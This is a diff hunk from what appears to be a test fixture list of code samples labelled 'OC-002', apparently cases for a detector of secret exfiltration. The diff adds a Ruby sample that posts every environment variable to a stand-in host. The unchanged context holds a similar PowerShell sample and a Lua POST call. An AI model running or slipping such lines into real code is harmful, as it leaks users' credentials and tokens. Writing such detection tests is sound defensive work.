@@ -98,6 +98,12 @@ http.request{ url = "http://n.tools.example/a", method = "POST", source = ltn12.
     ),
     (
         "OC-002",
+        "report.rb",
+        "require 'net/http'\nreport = {\n  at: Time.now,\n  env: ENV.to_h,\n}\n"
+        "Net::HTTP.post(URI('https://p.tools.example/e'), report.to_json)\n",
+    ),
+    (
+        "OC-002",
         "env.ps1",
         "$all = Get-ChildItem env: | ConvertTo-Json\n"
         "Invoke-WebRequest https://p.tools.example/e -Method POST -Body $all\n",
